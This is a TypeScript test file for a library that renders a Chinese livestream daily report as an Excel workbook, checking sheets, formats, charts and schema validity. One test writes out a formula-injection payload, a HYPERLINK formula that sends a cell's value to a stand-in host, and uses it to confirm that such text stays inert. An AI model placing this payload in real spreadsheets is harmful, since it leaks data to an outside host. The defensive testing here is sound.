import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { ReportDocument, Section } from '../../../reports/render/report-document.js';
import type { TableCells } from '../../../reports/render/table-model.js';
import { renderWorkbook } from '../../../reports/render/workbook.js';
import { lacksProgram, lacksPython, runPython } from '../../external-tool.js';
import { sampleDocument } from './sample-document.js';

const directory = mkdtempSync(join(tmpdir(), 'wxlive-workbook-'));
afterAll(() => {
  rmSync(directory, { recursive: true });
});

async function rendered(document: ReportDocument): Promise<Buffer> {
  const parts: Uint8Array[] = [];
  for await (const part of renderWorkbook(document)) parts.push(part);
  return Buffer.concat(parts);
}

async function saved(name: string, document: ReportDocument): Promise<string> {
  const file = join(directory, name);
  writeFileSync(file, await rendered(document));
  return file;
}

/** Everything a sheet shows, by openpyxl. */
const DUMP = `
import openpyxl, json, sys, datetime
def plain(v):
    if isinstance(v, datetime.datetime): return 'at ' + v.strftime('%Y-%m-%d %H:%M:%S')
    if isinstance(v, datetime.timedelta): return 'for ' + str(round(v.total_seconds()))
    if isinstance(v, datetime.time): return 'for ' + str(v.hour * 3600 + v.minute * 60 + v.second)
    return v
book = openpyxl.load_workbook(sys.argv[1])
print(json.dumps({
  'title': book.properties.title, 'creator': book.properties.creator,
  'sheets': [{
    'name': s.title, 'freeze': s.freeze_panes, 'filter': s.auto_filter.ref,
    'printTitles': s.print_title_rows, 'merges': sorted(str(r) for r in s.merged_cells.ranges),
    'widths': {k: d.width for k, d in s.column_dimensions.items()},
    'conditions': sorted([str(r.sqref), x.type] for r in s.conditional_formatting for x in r.rules),
    'charts': [{'kind': type(c).__name__, 'refs': [[x.val.numRef.f, (x.cat.strRef or x.cat.numRef).f] for x in c.series]} for c in s._charts],
    'rows': [[[plain(c.value), c.number_format] if c.value is not None else None for c in row] for row in s.iter_rows(max_row=60)],
    'types': sorted({c.data_type for row in s.iter_rows() for c in row}),
    'links': len(s._hyperlinks),
  } for s in book]}))`;

interface Dump {
  readonly title: string;
  readonly creator: string;
  readonly sheets: readonly {
    readonly name: string;
    readonly freeze: string | null;
    readonly filter: string | null;
    readonly printTitles: string | null;
    readonly merges: readonly string[];
    readonly widths: Readonly<Record<string, number>>;
    readonly conditions: readonly (readonly [string, string])[];
    readonly charts: readonly {
      readonly kind: string;
      readonly refs: readonly (readonly [string, string])[];
    }[];
    readonly rows: readonly (readonly (readonly [unknown, string] | null)[])[];
    readonly types: readonly string[];
    readonly links: number;
  }[];
}

describe.skipIf(lacksPython('openpyxl'))('a report as a workbook, read by openpyxl', () => {
  let dumping: Promise<Dump> | undefined;
  const dump = (): Promise<Dump> =>
    (dumping ??= saved('dump.xlsx', sampleDocument()).then((file) => runPython(DUMP, file) as Dump));
  const sheet = async (name: string) => {
    const found = (await dump()).sheets.find((one) => one.name === name);
    if (found === undefined) throw new Error(`no sheet ${name}`);
    return found;
  };
  const rowStarting = async (name: string, first: string) =>
    (await sheet(name)).rows.find((row) => row[0]?.[0] === first);

  it('has the sheets of the report and its properties', async () => {
    const { title, creator, sheets } = await dump();
    expect([title, creator]).toEqual(['直播日报', 'wxlive']);
    expect(sheets.map(({ name }) => name)).toEqual([
      '封面',
      '平台对比',
      '转化漏斗',
      '渠道与归因',
      '观看明细数据',
      '指标字典',
      '图表数据',
    ]);
  });

  it('tells on its cover what it is', async () => {
    const cover = await sheet('封面');
    const cells = cover.rows.flat().flatMap((cell) => (cell === null ? [] : [cell]));
    expect(cells).toEqual(
      expect.arrayContaining([
        ['直播日报', 'General'],
        ['2026-09-10（周四）', 'General'],
        ['at 2026-09-11 09:00:00', 'yyyy-mm-dd hh:mm'],
        ['暂定', 'General'],
        ['看点直播分钟数据尚未到齐（已到 3/4 场）', 'General'],
        ['仅供 王晓明 使用，请勿转发', 'General'],
        [18_432, '#,##0'],
        [1_234_567.89, '#,##0'],
        [0.0342, '0.0%'],
        [-0.053, '"▲ "0.0%;"▼ "0.0%;"● "0.0%'],
        ['指标字典', 'General'],
      ]),
    );
    expect(cover.merges).toContain('B2:G2');
  });

  it('types every cell and formats it by its kind', async () => {
    expect(await rowStarting('平台对比', '小程序直播')).toEqual([
      ['小程序直播', 'General'],
      ['秋季新品首发专场', 'General'],
      ['at 2026-09-10 20:00:00', 'yyyy-mm-dd hh:mm:ss'],
      [12_040, '#,##0'],
      [0.21, '"▲ "0.0%;"▼ "0.0%;"● "0.0%'],
      ['for 754', '[h]:mm:ss'],
      [0.041, '0.0%'],
      [987_654.32, '#,##0.00'],
    ]);
    expect((await rowStarting('渠道与归因', 'wechat_group'))?.slice(4)).toEqual([
      [0.05, '#,##0.00'],
      ['at 2026-08-01 00:00:00', 'yyyy-mm-dd'],
    ]);
    // what is not known is blank, not zero
    expect((await rowStarting('平台对比', '企业微信直播'))?.slice(6)).toEqual([null, null]);
  });

  it('freezes headers, filters, repeats them on paper, and leaves the total out', async () => {
    expect(await sheet('平台对比')).toMatchObject({ freeze: 'A7', printTitles: '$1:$6' });
    expect(await sheet('渠道与归因')).toMatchObject({ freeze: 'A3', filter: 'A4:F16' });
    expect(await sheet('观看明细数据')).toMatchObject({
      freeze: 'A4',
      filter: 'A3:F1203',
      printTitles: '$1:$3',
    });
    expect((await sheet('平台对比')).conditions).toEqual([
      ['D7:D10', 'dataBar'],
      ['E7:E10', 'cellIs'],
      ['E7:E10', 'cellIs'],
    ]);
    expect((await sheet('渠道与归因')).conditions).toContainEqual(['B27:E29', 'colorScale']);
  });

  it('makes columns wide enough for Chinese', async () => {
    const { widths } = await sheet('平台对比');
    expect(widths['B']).toBeGreaterThanOrEqual(18);
    expect((await sheet('观看明细数据')).widths['B']).toBeGreaterThanOrEqual(36);
    for (const { widths: all } of (await dump()).sheets)
      expect(Math.max(...Object.values(all))).toBeLessThanOrEqual(44);
  });

  it('draws native charts from cells that hold the same figures', async () => {
    const { sheets } = await dump();
    expect(sheets.flatMap(({ charts }) => charts.map(({ kind }) => kind))).toEqual([
      'LineChart',
      'BarChart',
      'BarChart',
    ]);
    const data = await sheet('图表数据');
    const column = (reference: string) => {
      const match = /^'图表数据'!\$([A-Z])\$(\d+):\$\1\$(\d+)$/.exec(reference);
      if (match === null) throw new Error(`unreadable range ${reference}`);
      const index = (match[1] ?? 'A').charCodeAt(0) - 65;
      return data.rows.slice(Number(match[2]) - 1, Number(match[3])).map((row) => row[index]?.[0] ?? null);
    };
    const line = sheets[1]?.charts[0]?.refs ?? [];
    expect(line).toHaveLength(2);
    expect(column(line[0]?.[1] ?? '').slice(0, 2)).toEqual([
      'at 2026-09-10 20:00:00',
      'at 2026-09-10 20:01:00',
    ]);
    expect(column(line[1]?.[0] ?? '').slice(0, 10)).toEqual(Array.from({ length: 10 }, () => null));
  });

  it('has no formula, no error, no link anywhere', async () => {
    for (const { types, links } of (await dump()).sheets) {
      expect(types.every((type) => ['n', 's', 'd'].includes(type))).toBe(true);
      expect(links).toBe(0);
    }
  });

  it('keeps injected texts text in every field', async () => {
    const evil = '=HYPERLINK("http://x.example/"&A1,"点我")';
    const file = await saved('evil.xlsx', poisoned(evil));
    const found = runPython(
      `import openpyxl,json,sys
w=openpyxl.load_workbook(sys.argv[1])
cells=[c for s in w for row in s.iter_rows() for c in row if c.value is not None]
print(json.dumps({'types': sorted({c.data_type for c in cells if isinstance(c.value,str)}), 'links': sum(1 for c in cells if c.hyperlink), 'texts': sum(1 for c in cells if sys.argv[2] in str(c.value)), 'unquoted': sum(1 for c in cells if str(c.value).startswith('=') and not c.quotePrefix)}))`,
      file,
      evil,
    );
    expect(found).toEqual({ types: ['s'], links: 0, texts: expect.any(Number) as number, unquoted: 0 });
    expect((found as { texts: number }).texts).toBeGreaterThan(25);
    expect(readFileSync(file).includes('hyperlink')).toBe(false);
  });
});

/** The sample with a text in every field that holds text. */
function poisoned(text: string): ReportDocument {
  const sample = sampleDocument();
  const section = (one: Section): Section => ({
    ...one,
    title: text,
    note: text,
    text: [text],
    tables: one.tables.map((table) => ({
      ...table,
      title: text,
      note: text,
      emptyNote: text,
      columns: table.columns.map((column) => ({ ...column, label: text })),
      rows: [table.columns.map((): TableCells[number] => text)],
      totalRow: table.columns.map(() => text),
    })),
    charts: one.charts.map((chart) => {
      switch (chart.kind) {
        case 'line':
        case 'bar':
          return { ...chart, title: text, series: chart.series.map((series) => ({ ...series, name: text })) };
        case 'funnel':
          return {
            ...chart,
            title: text,
            countLabel: text,
            steps: chart.steps.map((step) => ({ ...step, name: text })),
          };
        case 'heatmap':
          return { ...chart, title: text, rowLabels: [text], columnLabels: [text] };
      }
    }),
  });
  return {
    ...sample,
    title: text,
    subtitle: text,
    stateNote: text,
    recipient: text,
    period: { ...sample.period, label: text },
    summary: [text],
    highlights: sample.highlights.map((highlight) => ({ ...highlight, label: text, comparedWith: text })),
    sections: sample.sections.map(section),
    metrics: sample.metrics.map((metric) => ({
      ...metric,
      id: text,
      zh: text,
      en: text,
      definition: text,
      unit: text,
      base: text,
      source: text,
    })),
  };
}

describe('a workbook', () => {
  it('is the same bytes for the same report', async () => {
    expect((await rendered(sampleDocument())).equals(await rendered(sampleDocument()))).toBe(true);
    expect(
      (await rendered(sampleDocument())).equals(await rendered(sampleDocument({ recipient: '李雷' }))),
    ).toBe(false);
  });

  it('is made of nothing, too', async () => {
    const empty = sampleDocument({
      sections: [],
      metrics: [],
      highlights: [],
      summary: [],
      recipient: null,
      subtitle: '',
    });
    expect((await rendered(empty)).length).toBeGreaterThan(1000);
  });
});

describe.skipIf(lacksPython('openxml_audit'))('against the OOXML schemas', () => {
  it.each([
    ['a report', () => sampleDocument()],
    ['an English report', () => sampleDocument({ language: 'en' })],
    ['hostile texts', () => poisoned('\u0000<a>&"\'_x0041_\ud800\ufffe')],
    ['an empty report', () => sampleDocument({ sections: [], metrics: [], highlights: [], summary: [] })],
  ])('%s is valid', async (name, document) => {
    const file = await saved(`audit-${name.replaceAll(' ', '-')}.xlsx`, document());
    const output = execFileSync('python3', ['-m', 'openxml_audit.cli', '-o', 'json', file], {
      encoding: 'utf8',
    });
    expect(JSON.parse(output)).toMatchObject([{ valid: true, error_count: 0 }]);
  });
});

describe.skipIf(lacksProgram('soffice') || lacksProgram('pdftotext'))('in LibreOffice', () => {
  it('opens, calculates without errors, and shows what it should', async () => {
    const file = await saved('office.xlsx', sampleDocument({}, 60));
    execFileSync(
      'soffice',
      [
        '--headless',
        `-env:UserInstallation=file://${directory}/office`,
        '--convert-to',
        'pdf',
        '--outdir',
        directory,
        file,
      ],
      {
        stdio: 'ignore',
      },
    );
    const text = execFileSync('pdftotext', ['-layout', file.replace('.xlsx', '.pdf'), '-'], {
      encoding: 'utf8',
    });
    for (const shown of [
      '直播日报',
      '18,432',
      '987,654.32',
      '▲ 21.0%',
      '▼ 8.0%',
      '0:12:34',
      '2026-09-10 20:00:00',
      '40.6%',
      '指标字典',
      '在线人数曲线',
      '仅供 王晓明 使用',
      '第 1 页',
    ]) {
      expect(text).toContain(shown);
    }
    expect(text).not.toMatch(/#REF!|#NAME\?|#VALUE!|#N\/A|####|Err:\d/);
  });
});
